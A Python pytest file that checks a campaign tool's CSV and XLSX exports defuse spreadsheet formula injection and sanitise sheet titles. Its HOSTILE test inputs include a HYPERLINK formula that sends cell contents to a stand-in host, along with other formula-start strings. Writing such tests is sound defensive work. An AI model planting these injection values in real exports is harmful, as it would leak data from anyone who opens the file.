"""Exports are safe to open in a spreadsheet: no formula from contact data, valid sheets."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
import typer
from typer.testing import CliRunner

from mbs.campaign.export import neutralise, sheet_title, write_csv, write_xlsx
from mbs.campaign.law import CallingLaw
from mbs.campaign.store import Store
from mbs.cli import campaign_cmd, contacts_cmd

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"x")',
    "+33 1 23",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",  # a spreadsheet that trims spaces on import would find the formula
    "\u00a0=1+1",
    "  @SUM(A1)",
]
COLUMNS = ("first_name", "attempt", "dialled_at")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Marie", "", "'déjà", "a=b", " a=1", "   "])
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_csv_cells_are_neutralised_numbers_are_not() -> None:
    rows = [
        {"first_name": t, "attempt": -1, "dialled_at": datetime(2026, 3, 1, tzinfo=UTC)}
        for t in HOSTILE
    ]
    buffer = io.StringIO(newline="")
    assert write_csv(rows, buffer, COLUMNS) == len(HOSTILE)
    read = list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))
    # and a "'" after the tab / CR too: a reader splitting there would start a cell "=1"
    assert [r["first_name"] for r in read] == ["'" + t for t in HOSTILE[:4]] + [
        "'\t'=1",
        "'\r'=1",
        *("'" + t for t in HOSTILE[6:]),
    ]
    assert {r["attempt"] for r in read} == {"-1"}  # a number stays a number
    assert read[0]["dialled_at"] == "2026-03-01T00:00:00+00:00"


def test_xlsx_texts_are_text_cells_never_formulas(tmp_path: Path) -> None:
    rows = [{"first_name": t, "attempt": 2, "dialled_at": None} for t in [*HOSTILE, "Marie"]]
    target = tmp_path / "x.xlsx"
    write_xlsx(rows, target, "essai", COLUMNS)
    sheet = openpyxl.load_workbook(target).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # the data, unchanged (XML reads a CR back as LF)
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in [*HOSTILE, "Marie"]]
    assert all(c.data_type == "s" for c in cells)  # text, not "f" (formula)
    assert [c.quotePrefix for c in cells] == [True] * len(HOSTILE) + [False]
    assert "<f>" not in _sheet_xml(target)


def _sheet_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("relance:mars", "relance_mars"),
        ("a/b\\c?d*e[f]g", "a_b_c_d_e_f_g"),
        ("x" * 40, "x" * 31),
        ("'quoted'", "quoted"),
        ("", "calls"),
        (":::", "___"),
    ],
)
def test_sheet_titles_are_valid(name: str, title: str, tmp_path: Path) -> None:
    assert sheet_title(name) == title
    write_xlsx([], tmp_path / "t.xlsx", name, COLUMNS)  # openpyxl accepts it
    assert openpyxl.load_workbook(tmp_path / "t.xlsx").sheetnames == [title]


def test_the_cli_exports_a_hostile_contact_safely(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = f"sqlite:///{tmp_path / 'x.sqlite'}"
    monkeypatch.setenv("DATABASE_URL", url)
    app = typer.Typer()

    @app.callback()
    def _root() -> None: ...

    contacts_cmd.register(app)
    campaign_cmd.register(app)
    source = tmp_path / "c.csv"
    source.write_text(
        'phone;first_name\n+33612345678;"=HYPERLINK(""http://x/?""&A1,""x"")"\n',
        encoding="utf-8",
    )
    runner = CliRunner()
    assert runner.invoke(app, ["contacts", "import", str(source), "-c", "demo"]).exit_code == 0
    store = Store.open(url)
    try:
        assert store.claim_due(
            "demo", datetime(2026, 3, 10, 9, 30, tzinfo=UTC), 1, "w", CallingLaw()
        ).claims
    finally:
        store.close()
    result = runner.invoke(app, ["campaign", "export", "demo"])
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["first_name"] == '\'=HYPERLINK("http://x/?"&A1,"x")'
    assert row["phone"] == "'+33612345678"
    target = tmp_path / "demo.xlsx"
    result = runner.invoke(
        app, ["campaign", "export", "demo", "--format", "xlsx", "-o", str(target)]
    )
    assert result.exit_code == 0, result.output
    assert "<f>" not in _sheet_xml(target)
